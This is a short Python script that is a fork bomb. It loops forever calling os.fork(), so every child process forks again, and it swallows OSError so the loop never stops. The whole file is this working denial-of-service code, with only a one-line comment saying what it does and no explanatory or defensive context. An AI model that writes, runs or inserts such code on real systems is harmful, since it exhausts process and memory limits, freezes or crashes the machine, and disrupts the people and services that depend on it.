# Forks without end; every child forks too.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
